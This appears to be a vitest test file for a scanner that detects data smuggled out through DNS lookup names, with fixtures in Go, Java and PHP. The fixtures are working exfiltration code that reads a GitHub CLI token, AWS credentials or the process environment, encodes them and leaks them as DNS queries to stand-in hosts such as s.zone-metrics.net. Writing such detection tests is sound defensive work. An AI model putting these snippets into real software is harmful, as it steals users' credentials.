import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

const scripting = (code: string) => factsOf('scripting', code);

describe('DNS lookups that carry data in the name (Go, JVM, PHP)', () => {
  it('Go: a store read through os.DirFS, hex chunks asked as TXT names through a custom resolver', async () => {
    const r = await scripting(
      [
        'package probe',
        'import ("context"; "encoding/hex"; "io/fs"; "net"; "os")',
        'func init() {',
        '\thome, _ := os.UserHomeDir()',
        '\tfsys := os.DirFS(home)',
        '\tb, err := fs.ReadFile(fsys, ".config/gh/hosts.yml")',
        '\tif err != nil {',
        '\t\treturn',
        '\t}',
        '\tenc := hex.EncodeToString(b)',
        '\tr := &net.Resolver{PreferGo: true}',
        '\tfor i := 0; i < len(enc); i += 60 {',
        '\t\tpart := enc[i:min(i+60, len(enc))]',
        '\t\tr.LookupTXT(context.Background(), part+".s.zone-metrics.net")',
        '\t}',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'cli-token' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { channel: 'dns', endpoint: { host: 's.zone-metrics.net' }, data: { secret: 'cli-token' } },
    ]);
  });

  it('Java: an encoded credentials file as labels of InetAddress.getByName; PHP: the environment as a TXT query', async () => {
    const java = await scripting(
      [
        'import java.net.InetAddress;',
        'class Beacon {',
        '  static void ping() throws Exception {',
        '    String raw = new String(Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".aws", "credentials")));',
        '    String label = Base64.getUrlEncoder().encodeToString(raw.getBytes()).substring(0, 50);',
        '    InetAddress.getByName(label + ".b.lookup-sink.org");',
        '  }',
        '}',
      ].join('\n'),
    );
    expect(ofKind(java, 'send')).toMatchObject([{ channel: 'dns', data: { secret: 'cloud-credentials' } }]);
    const php = await scripting(
      [
        '<?php',
        '$b = bin2hex(json_encode(getenv()));',
        "dns_get_record(substr($b, 0, 60) . '.e.txt-relay.net', DNS_TXT);",
      ].join('\n'),
    );
    expect(ofKind(php, 'send')).toMatchObject([{ channel: 'dns', endpoint: { host: 'e.txt-relay.net' } }]);
  });

  it('quiet: a fixed host, a configured host looked up whole, a module path read through DirFS', async () => {
    const r = await scripting(
      [
        'package main',
        'import ("io/fs"; "net"; "os")',
        'func main() {',
        '\tnet.LookupHost("api.github.com")',
        '\tnet.LookupIP(os.Getenv("DB_HOST"))',
        '\tsrc := os.DirFS(".")',
        '\tfs.ReadFile(src, "go.mod")',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toEqual([]);
    expect(ofKind(r, 'read')).toEqual([]);
  });
});
